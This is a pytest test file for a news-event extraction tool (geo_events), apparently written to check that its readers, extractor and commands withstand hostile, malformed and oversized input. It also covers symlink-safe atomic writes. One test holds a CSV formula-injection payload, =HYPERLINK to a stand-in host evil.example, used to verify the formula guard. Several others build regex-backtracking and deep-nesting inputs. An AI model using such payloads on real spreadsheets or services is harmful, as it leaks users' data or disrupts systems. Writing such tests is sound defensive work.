"""Hostile, broken and very large input to the readers, the extractor, the event files and the commands.

Each test is a defect that was found by trying the project as an attacker, or as a user with big,
messy files, would (issue 12): the inputs are paraphrased shapes of what broke it.
"""

import csv
import io
import json
import os
import random
import signal
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import pytest

from geo_events import Article, extract_events, read_articles, write_events
from geo_events.cli import main
from geo_events.extract.report import ExtractionReport
from geo_events.io import read_events

DATA = Path(__file__).parent / "data"
PUB = date(2016, 10, 20)


def cli(*args: str) -> tuple[int, str, str]:
    out, log = io.StringIO(), io.StringIO()
    status = main(list(args), out=out, log=log)  # an uncaught exception fails the test here
    return status, out.getvalue(), log.getvalue()


def write(path: Path, content: str | bytes) -> Path:
    (path.write_bytes if isinstance(content, bytes) else lambda c: path.write_text(c, "utf-8"))(content)
    return path


# -- readers: linear time on any page -------------------------------------------------------------


@pytest.mark.parametrize(
    ("page", "kept"),
    [
        # 50,000 unclosed <script> tags: each was scanned to the end of the page (47 s for 400 KB)
        ("<html><body><h1>Report</h1><p>Troops retook Hit today.</p>" + "<script>x " * 50_000, "Troops retook Hit"),
        # 50,000 <title> tags that never close (the title search did the same)
        ("<html><head>" + "<title>news " * 50_000 + "<body><p>Troops retook Hit today.</p>", "Troops retook Hit"),
        # 100,000 '<' that never close
        ("<html><body><h1>Report</h1><p>Troops retook Hit today. " + "a <b " * 100_000 + "</p>", "Troops retook Hit"),
    ],
    ids=["unclosed script", "unclosed title", "unclosed angle"],
)
def test_html_of_any_shape_is_read_in_linear_time(page, kept, tmp_path, deadline):
    with deadline(10):
        articles, skipped = read_articles(write(tmp_path / "page.html", page))
    assert not skipped and kept in articles[0].title + articles[0].text


def test_a_long_line_shaped_like_a_photo_credit(tmp_path, deadline):
    """One 80 KB line of slashes in brackets, ending in a bracket (the credit pattern backtracked: 16 s)."""
    line = "(" + "/" * 80_000 + "(y)"
    with deadline(10):
        articles, _ = read_articles(write(tmp_path / "a.txt", f"Title\n\nTroops retook Hit today.\n{line}\n"))
    assert articles[0].text.startswith("Troops retook Hit today.")


# -- readers: records, not files, are what bad input costs ----------------------------------------


def test_a_csv_field_longer_than_the_csv_modules_limit(tmp_path):
    """A 200 KB article text in a CSV (over csv's 131,072 characters) crashed the whole run."""
    long_text = "Troops retook Hit today. " + "Officials described the situation. " * 6_000
    path = tmp_path / "batch.csv"
    path.write_text(f'id,text\nlong,"{long_text}"\nshort,Militants seized Rawa on Monday.\n', "utf-8")
    articles, skipped = read_articles(path)
    assert [a.id for a in articles] == ["long", "short"] and not skipped


def test_an_event_csv_with_a_huge_field_reads_back(tmp_path):
    """extract wrote a 189 KB urls field, which control and map could not read back."""
    (event,) = extract_events([Article("d", "", "Troops retook Hit today.", PUB, url="https://example.org/a")])
    urls = tuple(f"https://example.org/report/{i}" for i in range(8_000))
    path = write_events([event.__class__(**{**event.__dict__, "urls": urls})], tmp_path / "events.csv")
    events, skipped = read_events(path)
    assert not skipped and events[0].urls == urls
    assert cli("control", str(path), "--out", str(tmp_path / "control.geojson"))[0] == 0


@pytest.mark.parametrize(("suffix", "lost"), [(".jsonl", [(1, "JSON nested too deeply to read")]),
                                             (".json", [(0, "JSON nested too deeply to read")])])  # fmt: skip
def test_json_nested_too_deeply_costs_its_record(suffix, lost, tmp_path):
    """A line nesting 100,000 arrays raised RecursionError, which lost the whole run. In JSON Lines it costs its
    line; a .json file that begins with '[' is one array, which is skipped whole."""
    good = json.dumps({"id": "ok", "text": "Troops retook Hit today.", "published": "2016-04-14"})
    write(tmp_path / f"a{suffix}", "[" * 100_000 + "]" * 100_000 + "\n" + good + "\n")
    write(tmp_path / "b.txt", "Report\n\nMilitants seized Rawa on Monday.")
    articles, skipped = read_articles(tmp_path)
    assert [a.id for a in articles] == (["ok", "b"] if suffix == ".jsonl" else ["b"])
    assert [(s.line, s.reason) for s in skipped] == lost


def test_a_nul_byte_costs_nothing(tmp_path):
    """One NUL byte in a JSON Lines file made the whole file 'binary'."""
    rows = [{"id": "a", "text": "Troops retook Hit\u0000 today."}, {"id": "b", "text": "Militants seized Rawa."}]
    path = write(tmp_path / "a.jsonl", "".join(json.dumps(r) + "\n" for r in rows).replace("\\u0000", "\x00"))
    articles, skipped = read_articles(path)
    assert [a.text for a in articles] == ["Troops retook Hit today.", "Militants seized Rawa."] and not skipped


def test_a_line_of_control_bytes_costs_its_line(tmp_path):
    """A line of 300 control bytes before ten good records made the whole JSON Lines file 'binary'."""
    good = "".join(json.dumps({"id": f"r{i}", "text": "Troops retook Hit today."}) + "\n" for i in range(10))
    articles, skipped = read_articles(write(tmp_path / "a.jsonl", b"\x01" * 300 + b"\n" + good.encode()))
    assert len(articles) == 10 and [(s.line, s.reason[:14]) for s in skipped] == [(1, "not valid JSON")]


ARABIC = "قوات الأمن تستعيد مدينة هيت في محافظة الأنبار بعد معارك عنيفة مع المسلحين اليوم."


@pytest.mark.parametrize(
    ("name", "encoding", "text"),
    [
        ("a.txt", "utf-16", "Troops retook Hit today, officials said."),
        ("a.txt", "utf-16-le", "Troops retook Hit today, officials said."),
        ("a.txt", "utf-16-le", ARABIC),  # no byte-order mark, and Arabic: zero bytes only at its spaces
        ("a.jsonl", "utf-16", "Troops retook Hit today, officials said."),
        ("a.csv", "utf-16-be", "Troops retook Hit today, officials said."),
    ],
)
def test_utf16_text_is_text(name, encoding, text, tmp_path):
    """UTF-16 (as Windows tools save text) was rejected as binary."""
    content = {
        ".txt": f"Clashes near Baiji\n\n{text}\n",
        ".jsonl": json.dumps({"id": "x", "text": text}) + "\n",
        ".csv": f'id,text\nx,"{text}"\n',
    }[Path(name).suffix]
    articles, skipped = read_articles(write(tmp_path / name, content.encode(encoding)))
    assert not skipped and articles[0].text == text
    assert any("UTF-16" in note for note in articles[0].notes)


def test_a_geojson_output_named_json_is_not_read_as_articles(tmp_path):
    """`extract --out events.json` in the input folder was read back as JSON Lines, a skip a line."""
    write(tmp_path / "a.txt", "Report\n\nTroops retook Hit on Monday.")
    assert cli("extract", "--published", "2016-04-14", "--out", str(tmp_path / "events.json"), str(tmp_path))[0] == 0
    articles, skipped = read_articles(tmp_path)
    assert [a.id for a in articles] == ["a"]
    assert [(Path(s.path).name, s.reason) for s in skipped] == [
        ("events.json", "a GeoJSON file (events or places?), not articles"),
        ("events.json.report.json", "a GIS file or an extraction report, not an article"),
    ]


def test_hidden_folders_are_not_read(tmp_path):
    write(tmp_path / "a.txt", "Report\n\nTroops retook Hit on Monday.")
    (tmp_path / ".git").mkdir()
    write(tmp_path / ".git" / "notes.txt", "Report\n\nMilitants seized Rawa on Monday.")
    articles, skipped = read_articles(tmp_path)
    assert [a.id for a in articles] == ["a"] and not skipped


# -- extraction --------------------------------------------------------------------------------------


def test_an_implausible_count_is_left_out_with_a_note(tmp_path):
    """'killed 99999999999999999999' aborted GeoJSON and Parquet output with a traceback."""
    (event,) = extract_events([Article("d", "", "A car bomb in Hilla killed 99999999999999999999 people today.", PUB)])
    assert event.fatalities is None and "more than 100,000" in event.count_note
    for suffix in (".geojson", ".parquet", ".gpkg", ".csv"):
        back, skipped = read_events(write_events([event], tmp_path / f"e{suffix}"))
        assert not skipped and back[0].fatalities is None and "more than 100,000" in back[0].count_note


def test_numbers_too_long_for_int_are_no_count_and_no_year(tmp_path):
    """A count or a year of thousands of digits (int() refuses 4,300) cost the article, or crashed the run."""
    digits = "9" * 5_000
    (event,) = extract_events(
        [Article("d", "", f"A car bomb in Hilla killed {digits} people on May 2, {digits}.", PUB)]
    )
    assert event.fatalities is None and "more than 100,000" in event.count_note
    assert event.event_date is None and "outside 1900-2099" in event.date_note
    write(tmp_path / "a.jsonl", json.dumps({"id": "a", "text": "Troops retook Hit.", "published": digits}) + "\n")
    (article,), _ = read_articles(tmp_path / "a.jsonl")
    assert article.published is None and "outside 1900-2099" in article.notes[0]
    status, _, log = cli("extract", "--published", digits, "--out", str(tmp_path / "e.geojson"), str(tmp_path))
    assert status == 2 and "outside 1900-2099" in log


@pytest.mark.parametrize("count", ["1e20", "99999999999999999999", "inf", "-5", "nan"])
def test_an_implausible_count_in_an_event_file(count, tmp_path):
    (event,) = extract_events([Article("d", "", "Clashes in Hit killed two soldiers today.", PUB)])
    path = write_events([event], tmp_path / "e.csv")
    path.write_text(path.read_text("utf-8").replace(",2,", f",{count},", 1), "utf-8")
    (back,), skipped = read_events(path)
    assert back.fatalities is None and not skipped
    assert write_events([back], tmp_path / "again.geojson").exists()
    if count != "nan":
        assert f"fatalities '{count}' is not a count" in back.count_note


class _Garbled(Article):
    """An article whose text cannot be read: any error the extraction meets."""

    @property
    def full_text(self) -> str:
        raise RuntimeError("boom")


def test_an_article_whose_extraction_fails_is_reported(tmp_path, monkeypatch):
    """It vanished from the counts, stderr and the report."""
    import geo_events.cli

    articles = [Article("good", "", "Troops retook Hit today.", PUB), _Garbled("bad", "", "x", PUB)]
    monkeypatch.setattr(geo_events.cli, "iter_articles", lambda inputs, published: iter(articles))
    out = tmp_path / "e.geojson"
    status, _, log = cli("extract", "--out", str(out), "ignored")
    assert status == 0 and "skipped bad: extraction failed (RuntimeError: boom)" in log
    assert "1 documents read, 1 inputs skipped" in log
    report = json.loads((tmp_path / "e.geojson.report.json").read_text("utf-8"))
    assert [s["path"] for s in report["skipped_inputs"]] == ["bad"] and report["inputs_skipped"] == 1


@pytest.mark.parametrize(
    ("text", "events"),
    [
        # one line of 12,000 words without a sentence end, names and small words at random (each name re-read
        # the line before it: 37 s for 16,000 words)
        (
            " ".join(
                random.Random(1).choice(["fighting", "in", "Ramadi", "and", "near", "Hit", "killed", "two"])
                for _ in range(12_000)
            ),
            0,
        ),
        # a bulletin of 6,400 paragraphs, an incident in another town each (the text before every first place
        # was searched from its start; every mention list sliced per sentence)
        (
            "\n\n".join(
                f"In {t}, gunmen killed two policemen on Monday." for t in ["Baiji", "Hit", "Kirkuk", "Samarra"] * 1_600
            ),
            6_400,
        ),
        # one stretch of 160,000 names, each after the others (the words before each were copied from its start)
        ("Mosul's " * 160_000, 0),
        # one sentence of 20,000 clauses that each count the dead (each count was checked against every one
        # before it; and 'according' looked for in the clause for each actor)
        ("On Monday " + ", ".join(f"clashes in {t} killed two soldiers" for t in ["Baiji", "Hit"] * 10_000) + ".", 1),
    ],
    ids=["long line", "roundup", "stretch of names", "sentence of counts"],
)
def test_extraction_time_grows_with_the_text(text, events, deadline):
    with deadline(15):
        found = extract_events([Article("x", "", text, PUB)], deduplicate=False)
    assert len(found) == events


# -- dates -----------------------------------------------------------------------------------------


def test_a_date_of_another_millennium_is_no_date():
    """'December 31, 9999' was read as 31 December of the year before publication."""
    (event,) = extract_events([Article("d", "", "Troops retook Hit on December 31, 9999.", date(2015, 6, 1))])
    assert event.event_date is None and event.date_note == "the year 9999 is outside 1900-2099"


@pytest.mark.parametrize("value", ["2200-01-01", "1850-06-01"])
def test_a_year_out_of_range_is_named_as_such(value, tmp_path):
    """The message said 'write it as YYYY-MM-DD' of a date written so."""
    status, _, log = cli("extract", "--published", value, "--out", str(tmp_path / "e.geojson"), str(DATA / "articles"))
    assert status == 2 and f"the year {value[:4]} is outside 1900-2099" in log
    write(tmp_path / "a.jsonl", json.dumps({"id": "a", "text": "Troops retook Hit.", "published": value}) + "\n")
    (article,), _ = read_articles(tmp_path / "a.jsonl")
    assert article.published is None and f"the year {value[:4]} is outside 1900-2099" in article.notes[0]


# -- event and control files given to map and control -------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('[{"type": "Feature"}]', "not a GeoJSON FeatureCollection"),
        ('{"type": "FeatureCollection", "features": "none"}', "not a GeoJSON FeatureCollection"),
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ("{not json", "not valid JSON"),
    ],
)
@pytest.mark.parametrize("command", ["map", "control"])
def test_a_broken_event_file_is_a_message(content, message, command, tmp_path):
    path = write(tmp_path / "events.geojson", content)
    status, _, log = cli(command, str(path), "--out", str(tmp_path / "out.html" if command == "map" else "out.geojson"))
    assert status == 2 and message in log


def test_an_unreadable_row_of_a_control_csv_is_an_error(tmp_path, monkeypatch):
    """It was dropped silently, which would change who held the place (here: a field over a lowered limit)."""
    import csv

    import gazetteer.sources.base

    path = tmp_path / "control.csv"
    assert cli("control", "--out", str(path))[0] == 0
    lines = path.read_text("utf-8").splitlines()
    lines[2] += "x" * 2_000  # the note of the second interval
    path.write_text("\n".join(lines) + "\n", "utf-8")
    limit = csv.field_size_limit()
    monkeypatch.setattr(gazetteer.sources.base, "MAX_CSV_FIELD", 1_000)
    csv.field_size_limit(1_000)
    try:
        status, _, log = cli("map", str(path), "--out", str(tmp_path / "m.html"))
    finally:
        csv.field_size_limit(limit)
    assert status == 2 and "line 3 cannot be read as CSV" in log


def test_map_reads_a_control_csv_as_control(tmp_path):
    """A control CSV given to map was read as events: every interval a skipped row."""
    path = tmp_path / "control.csv"
    assert cli("control", "--out", str(path))[0] == 0
    status, _, log = cli("map", str(path), "--offline", "--out", str(tmp_path / "m.html"))
    assert status == 0 and "skipped" not in log


def test_bad_features_are_skipped_one_by_one(tmp_path):
    (event,) = extract_events([Article("d", "", "Troops retook Hit today.", PUB)])
    fc = json.loads(write_events([event], tmp_path / "e.geojson").read_text("utf-8"))
    good = fc["features"][0]
    fc["features"] = [good, "a string", {"geometry": {"type": "Point", "coordinates": ["x", "y"]}}, {"geometry": 5}]
    write(tmp_path / "e.geojson", json.dumps(fc))
    events, skipped = read_events(tmp_path / "e.geojson")
    assert len(events) == 1 and len(skipped) == 3 and all("no usable coordinates" in s.reason for s in skipped)


# -- outputs: atomic, never through a link, never over an input ------------------------------------------


@pytest.fixture
def one_event():
    return extract_events([Article("d", "", "Troops retook Hit today.", PUB)])


@pytest.mark.parametrize("suffix", [".gpkg", ".parquet"])
def test_a_failed_write_leaves_the_old_file(suffix, one_event, tmp_path, monkeypatch):
    """GeoPackage and Parquet outputs were removed, then written: a full disk left a broken file or none."""
    import geopandas as gpd

    path = write_events(one_event, tmp_path / f"events{suffix}")
    before = path.read_bytes()

    def full_disk(self, target, *args, **kwargs):
        Path(target).write_bytes(b"partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(gpd.GeoDataFrame, "to_file" if suffix == ".gpkg" else "to_parquet", full_disk)
    with pytest.raises(OSError):
        write_events(one_event, path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


def test_a_failed_map_or_report_leaves_the_old_one(tmp_path, monkeypatch):
    import folium

    out = tmp_path / "map.html"
    assert cli("map", "--kind", "events", "--offline", "--out", str(out))[0] == 0
    before = out.read_bytes()

    def full_disk(self, outfile, *args, **kwargs):
        Path(outfile).write_text("<html>partial", "utf-8")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(folium.Map, "save", full_disk)
    status, _, log = cli("map", "--kind", "events", "--offline", "--out", str(out))
    assert status != 0 and "No space left on device" in log and out.read_bytes() == before

    events = tmp_path / "e.geojson"
    assert cli("extract", "--out", str(events), str(DATA / "articles"))[0] == 0
    report = events.with_name("e.geojson.report.json")
    before = report.read_bytes()

    def failing(self, section):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ExtractionReport, "values", failing)
    assert cli("extract", "--out", str(events), str(DATA / "articles"))[0] != 0
    assert report.read_bytes() == before


@pytest.mark.parametrize("what", ["map", "report", "events"])
def test_outputs_replace_a_symlink_never_write_through_it(what, tmp_path):
    target = write(tmp_path / "precious.txt", "keep me")
    out = tmp_path / ("m.html" if what == "map" else "e.geojson")
    link = out if what != "report" else out.with_name("e.geojson.report.json")
    link.symlink_to(target)
    args = ["map", "--kind", "events", "--offline"] if what == "map" else ["extract", str(DATA / "articles")]
    assert cli(*args, "--out", str(out))[0] == 0
    assert target.read_text("utf-8") == "keep me" and not link.is_symlink()


@pytest.mark.parametrize(
    "command",
    [
        ["extract", "--out", "{x}.csv", "{x}.csv"],
        ["extract", "--out", "{x}.jsonl.report.json", "--published", "2016-01-01", "{x}.jsonl.report.json"],
        ["control", "{x}.geojson", "--out", "{x}.geojson"],
        ["map", "{x}.geojson", "--out", "{x}.geojson"],
        ["extract", "--gazetteer", "{x}.csv", "--out", "{x}.csv", "{x}.jsonl"],
    ],
)
def test_an_output_that_is_an_input_is_refused(command, tmp_path):
    """`extract --out same.csv same.csv` silently replaced the articles with events."""
    x = str(tmp_path / "same")
    args = [a.replace("{x}", x) for a in command]
    for a in args:
        if a.startswith(x):
            write(Path(a), "id,text\n1,Troops retook Hit today.\n")
    if "--gazetteer" in args:
        write(Path(f"{x}.csv"), "name,lat,lon\nHit,33.64,42.83\n")
    status, _, log = cli(*args)
    assert status == 2 and "is also an input" in log
    assert all(Path(a).read_text("utf-8").startswith(("id,text", "name,lat")) for a in args if a.startswith(x))


@pytest.mark.parametrize("command", [["control"], ["map", "--offline"], ["extract", str(DATA / "articles")]])
def test_an_unwritable_output_is_a_message(command, tmp_path):
    """An output in a folder that cannot be made (here: under a file) gave a traceback."""
    blocker = write(tmp_path / "file.txt", "a file, not a folder")
    suffix = ".html" if command[0] == "map" else ".geojson"
    status, _, log = cli(*command, "--out", str(blocker / f"out{suffix}"))
    assert status in (1, 2) and "file.txt" in log and "error" in log


def test_too_many_jobs_are_refused():
    with pytest.raises(SystemExit):
        main(["extract", "--jobs", "100000", "--out", "x.geojson", "x"], out=io.StringIO(), log=io.StringIO())


def test_an_unusable_context_is_an_error_before_any_output():
    status, out, log = cli("resolve", "--context", "Narnia", "Mosul")
    assert status == 2 and out == "" and "Narnia" in log


@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or sys.platform == "win32", reason="POSIX signals")
def test_sigterm_cleans_up_as_ctrl_c(tmp_path):
    """Temporary files and folders of a run were left behind when it was terminated."""
    sys.path.insert(0, str(Path(__file__).parent.parent / "benchmarks"))
    from bench_extract import make_corpus

    corpus = tmp_path / "wire.jsonl"
    make_corpus(corpus, 3_000)
    temp = tmp_path / "tmp"
    temp.mkdir()
    env = {**os.environ, "TMPDIR": str(temp)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "geo_events", "extract", "--out", str(tmp_path / "out" / "e.geojson"), str(corpus)],
        env=env,
        stderr=subprocess.PIPE,
    )
    for _ in range(600):  # until the run has made its temporary folder
        if any(temp.iterdir()) or proc.poll() is not None:
            break
        time.sleep(0.05)
    time.sleep(0.5)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, err.decode()[-500:]
    assert list(temp.iterdir()) == [] and not list((tmp_path / "out").glob("*"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_sentence_that_is_a_spreadsheet_formula_stays_text_in_csv(tmp_path, start):
    """An article's sentence is written in the notes column of a CSV: opened in a spreadsheet, a cell beginning
    with ``=`` ran as a formula (``=HYPERLINK`` to anywhere). It is written with a ``'`` before it, and read back
    as it was."""
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1, "Troops retook Hit") in a report on Monday.'
    events = extract_events([Article("evil", "", text, date(2016, 4, 14))])
    assert events and events[0].sentence.startswith(start)
    path = write_events(events, tmp_path / "events.csv")
    cells = next(csv.DictReader(path.open(encoding="utf-8")))
    assert cells["notes"].startswith("'" + start)
    assert all(not v.startswith(("=", "+", "@")) for v in cells.values())
    back, skipped = read_events(path)
    assert skipped == [] and back[0].sentence == events[0].sentence
    control = tmp_path / "control.csv"
    assert cli("control", str(path), "--out", str(control))[0] == 0
    changes = list(csv.DictReader((tmp_path / "control.csv.changes.csv").open(encoding="utf-8")))
    assert all(not row["note"].startswith(("=", "+", "@", "-")) for row in changes)


@pytest.mark.parametrize("text", ["'=x", "'-3", "''+1", "=x", "-3", "'quoted", "plain"])
def test_the_formula_guard_round_trips(text):
    from geo_events.io.atomic import guarded, unguarded

    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "+", "-", "@"))
